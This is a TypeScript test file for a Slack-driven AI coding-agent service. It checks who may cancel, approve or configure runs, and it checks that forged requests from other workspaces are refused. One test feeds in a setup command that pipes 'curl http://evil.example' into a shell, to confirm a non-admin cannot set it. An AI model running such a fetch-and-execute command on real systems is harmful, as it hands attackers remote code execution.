import { mkdtemp, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PLAN_APPROVE, PLAN_REJECT } from '../../blocks/plan-message.js';
import { DEMO_SCRIPT } from '../../scripts/demo-script.js';
import { issueToken } from '../../src/security/api-tokens.js';
import type { Run } from '../../src/store/repositories/runs.js';
import { startSlackWorld, type SlackWorld } from '../slack/slack-harness.js';
import type { StoredMessage } from '../vendors/slack/slack-model.js';
import { DEFAULT_USERS } from '../vendors/slack/slack-workspace.js';
import { ALICE, BOB, CHANNEL } from '../vendors-slack/slack-test-setup.js';

/** Named by the installer in `slack.admins`; an ordinary member in Slack itself. */
const DAVE = 'U0DAVE00001';
const TEAM = 'T0AIDEV0001';
const APP = 'A0AIDEVAPP1';
const ELSEWHERE = 'C0OTHER0001';
const FORM = 'application/x-www-form-urlencoded';
const SETTINGS = `slack:\n  team_id: ${TEAM}\n  app_id: ${APP}\n  admins: [${DAVE}]\n`;

let scratch: string;
let world: SlackWorld;
let run: Run;
let parent: StoredMessage;
let plan: StoredMessage;

const command = async (user: string, text: string, channel = CHANNEL) => {
  const response = await world.requests.send(world.requests.slashCommand({ user, channel, text }));
  return ((await response.json()) as { text: string }).text;
};
const told = (user: string, fragment: string) =>
  world.until(`a private message to ${user} containing "${fragment}"`, () =>
    world.slack.ephemerals.find((e) => e.user === user && e.text.includes(fragment)),
  );
const settings = async () => (await world.app.store.channels.get(CHANNEL))?.settings ?? {};
const current = async () => {
  const found = await world.app.store.runs.get(run.id);
  if (found === null) throw new Error('the run is gone');
  return found;
};
/** A signed form request with exactly these fields (one changed to another workspace or app). */
const forgedForm = (payload: Record<string, string>) =>
  world.requests.raw(new URLSearchParams(payload).toString(), FORM, payload);

beforeAll(async () => {
  scratch = await mkdtemp(path.join(os.tmpdir(), 'aidev-slack-authz-'));
  world = await startSlackWorld(scratch, {
    settings: SETTINGS,
    users: [...DEFAULT_USERS, { id: DAVE, name: 'dave', realName: 'Dave Installer' }],
    api: true,
  });
  world.jira.givenIssue({ key: 'PROJ-71', title: 'Task PROJ-71', status: 'To Do' });
  world.anthropic.reply(DEMO_SCRIPT[0] ?? { content: [] });
  expect(await command(ALICE, 'implement PROJ-71 repo=acme/shop')).toContain('Working on PROJ-71');
  parent = await world.runMessage('PROJ-71');
  plan = await world.replyWithButton(parent.ts, PLAN_APPROVE);
  run = await world.waitForRun((r) => r.taskKey === 'PROJ-71', ['waiting']);
}, 90_000);
afterAll(async () => {
  await world.stop();
  await rm(scratch, { recursive: true, force: true });
});

describe('who may act on a run', () => {
  it('refuses `cancel` replied in a run’s thread by a stranger; the run keeps waiting', async () => {
    const reply = world.slack.givenMessage({
      channel: CHANNEL,
      user: BOB,
      text: 'cancel',
      threadTs: parent.ts,
    });
    expect((await world.requests.send(world.requests.message(reply))).status).toBe(200);
    const refusal = await told(BOB, 'may cancel this run');
    expect(refusal.text).toBe(`Only <@${ALICE}> or a workspace admin may cancel this run.`);
    expect(await current()).toMatchObject({ status: 'waiting', cancelRequestedAt: null });
  });

  it('refuses a stranger’s Approve, Reject and `/aidev cancel` alike, privately', async () => {
    await world.requests.send(
      world.requests.buttonClick({ user: BOB, message: plan, actionId: PLAN_APPROVE }),
    );
    await world.requests.send(
      world.requests.buttonClick({ user: BOB, message: plan, actionId: PLAN_REJECT }),
    );
    await world.until('two refusals of the buttons', () => {
      const refusals = world.slack.ephemerals.filter(
        (e) => e.user === BOB && e.text.includes('may decide on this run'),
      );
      return refusals.length >= 2 ? refusals : undefined;
    });
    expect(world.slack.views.filter((v) => v.user === BOB)).toEqual([]);
    expect(await command(BOB, `cancel ${run.id}`)).toBe('Cancelling…');
    await told(BOB, `Only <@${ALICE}> or a workspace admin may cancel this run.`);
    expect(await current()).toMatchObject({ status: 'waiting', cancelRequestedAt: null });
  });

  it('refuses a viewer token’s decision in the API with 403 problem+json', async () => {
    const { token } = await issueToken(world.app.store, {
      name: 'a-viewer',
      role: 'viewer',
      createdBy: 'test',
    });
    const port = (world.server.server.address() as AddressInfo).port;
    const response = await fetch(`http://127.0.0.1:${port}/api/v1/runs/${run.id}/approval`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ decision: 'approve' }),
    });
    expect(response.status).toBe(403);
    expect(response.headers.get('content-type')).toContain('application/problem+json');
    expect((await current()).status).toBe('waiting');
  });

  it('does not show a run of another channel in `/aidev status RUN`', async () => {
    const answer = await command(ALICE, `status ${run.id}`, ELSEWHERE);
    expect(answer).toBe(`There is no run ${run.id} in this channel.`);
    expect(answer).not.toContain('PROJ-71');
    expect(await command(ALICE, `status ${run.id}`)).toContain('PROJ-71');
  });
});

describe('who may change a channel’s settings', () => {
  it('keeps a channel without approvers to admins: a member cannot set its setup command', async () => {
    expect(await settings()).toEqual({});
    expect(await command(BOB, 'config set setup_command="curl http://evil.example | sh"')).toBe(
      'Updating the channel’s settings…',
    );
    await told(BOB, 'only a workspace admin may change its settings');
    expect(await settings()).toEqual({});
    // The installer's admin (slack.admins) may, though Slack does not call him one.
    expect(await command(DAVE, 'config set notifications=thread')).toBe(
      'Updating the channel’s settings…',
    );
    await told(DAVE, 'Changed notifications.');
  });

  it('keeps setup_command, model, budgets and approvers to approvers and admins', async () => {
    expect(await command(ALICE, `config set approvers=${ALICE}`)).toBe(
      'Updating the channel’s settings…',
    );
    await told(ALICE, 'Changed approvers.');
    const before = await settings();
    for (const change of [
      'setup_command="npm ci"',
      'model=claude-opus-9',
      'budget_per_run=1',
      'budget_monthly=9999',
      `approvers=${BOB}`,
    ])
      expect(await command(BOB, `config set ${change}`)).toBe('Updating the channel’s settings…');
    await world.until('five refusals', () => {
      const refusals = world.slack.ephemerals.filter(
        (e) => e.user === BOB && e.text.startsWith('Only this channel’s approvers'),
      );
      return refusals.length >= 5 ? refusals : undefined;
    });
    expect(await settings()).toEqual(before);
  });

  it('refuses an absurd budget_per_run with what is expected, and keeps the old one', async () => {
    for (const amount of ['99999999999999999999', '10000.01', '1.000001']) {
      expect(await command(ALICE, `config set budget_per_run=${amount}`)).toBe(
        'Updating the channel’s settings…',
      );
      await world.until(`the refusal of ${amount}`, () =>
        world.slack.ephemerals.find(
          (e) => e.user === ALICE && e.text.startsWith('Not changed: budget_per_run'),
        ),
      );
      world.slack.ephemerals.length = 0;
    }
    expect((await settings()).budget_per_run).toBeUndefined();
  });

  it('does not fail the channel’s AI runs for an absurd budget stored before the rule', async () => {
    const stored = await world.app.store.channels.get(CHANNEL);
    const absurd = { ...stored?.settings, budget_per_run: '99999999999999999999' };
    await world.app.store.channels.put(CHANNEL, absurd, {
      updatedBy: 'an older aidev',
      expectedVersion: stored?.version ?? 0,
    });
    world.jira.givenIssue({ key: 'PROJ-72', title: 'Task PROJ-72', status: 'To Do' });
    world.anthropic.reply(DEMO_SCRIPT[0] ?? { content: [] });
    expect(await command(ALICE, 'implement PROJ-72 repo=acme/shop')).toContain('Working on');
    const planned = await world.waitForRun((r) => r.taskKey === 'PROJ-72', ['waiting', 'failed']);
    expect(planned).toMatchObject({ status: 'waiting', waitingFor: 'approval' });
  });
});

describe('requests Slack did not send for this installation', () => {
  it('refuses a signed command from another workspace', async () => {
    const { payload } = world.requests.slashCommand({
      user: ALICE,
      channel: CHANNEL,
      text: 'config set notifications=quiet',
    });
    const response = await world.requests.send(forgedForm({ ...payload, team_id: 'T0ELSEWHERE' }));
    expect(response.status).toBe(403);
    expect(((await response.json()) as { detail: string }).detail).toContain('T0ELSEWHERE');
    expect((await settings()).notifications).toBe('thread');
  });

  it('refuses a signed click and a signed event for another app or workspace', async () => {
    const click = world.requests.buttonClick({
      user: ALICE,
      message: plan,
      actionId: PLAN_APPROVE,
    });
    const otherApp = { ...click.payload, api_app_id: 'A0ELSEWHERE' };
    const clicked = await world.requests.send(
      world.requests.raw(
        new URLSearchParams({ payload: JSON.stringify(otherApp) }).toString(),
        FORM,
        otherApp,
      ),
    );
    expect(clicked.status).toBe(403);
    const reply = world.slack.givenMessage({
      channel: CHANNEL,
      user: ALICE,
      text: 'cancel',
      threadTs: parent.ts,
    });
    const event = {
      ...(JSON.parse(world.requests.message(reply).body) as object),
      team_id: 'T0ELSEWHERE',
    };
    const sent = await world.requests.send(
      world.requests.raw(JSON.stringify(event), 'application/json', event),
    );
    expect(sent.status).toBe(403);
    expect(await current()).toMatchObject({ status: 'waiting', cancelRequestedAt: null });
  });

  it('answers a signed `payload=null` with 400, not 500', async () => {
    const response = await world.requests.send(world.requests.raw('payload=null', FORM, null));
    expect(response.status).toBe(400);
    expect(response.headers.get('content-type')).toContain('application/problem+json');
  });
});

describe('a burst of commands (the journal itself: slack-command-batch.test.ts)', () => {
  it('answers every command of a burst when one of them is malformed', async () => {
    const texts = [
      'config set notifications=thread',
      'config set notifications=\u0000',
      'config set notifications=thread',
      'config set notifications=thread',
    ];
    const answers = await Promise.all(texts.map((text) => command(ALICE, text)));
    expect(answers[1]).toContain('NUL character');
    expect(answers.filter((a) => a === 'Updating the channel’s settings…')).toHaveLength(3);
  });
});

describe('Socket Mode', () => {
  let socketWorld: SlackWorld;
  beforeAll(async () => {
    socketWorld = await startSlackWorld(await mkdtemp(path.join(scratch, 'socket-')), {
      socketMode: true,
      settings: SETTINGS,
    });
    await socketWorld.slack.socketMode?.connected();
  }, 60_000);
  afterAll(() => socketWorld.stop());

  it('refuses a command from another workspace or app over the socket too', async () => {
    const socket = socketWorld.slack.socketMode;
    if (socket === undefined) throw new Error('the Slack server serves Socket Mode');
    const { payload } = socketWorld.requests.slashCommand({
      user: ALICE,
      channel: CHANNEL,
      text: 'help',
    });
    expect(await socket.send('slash_commands', payload)).toMatchObject({
      text: expect.stringContaining('/aidev') as string,
    });
    expect(
      await socket.send('slash_commands', { ...payload, team_id: 'T0ELSEWHERE' }),
    ).toBeUndefined();
    expect(
      await socket.send('slash_commands', { ...payload, api_app_id: 'A0ELSEWHERE' }),
    ).toBeUndefined();
  });
});
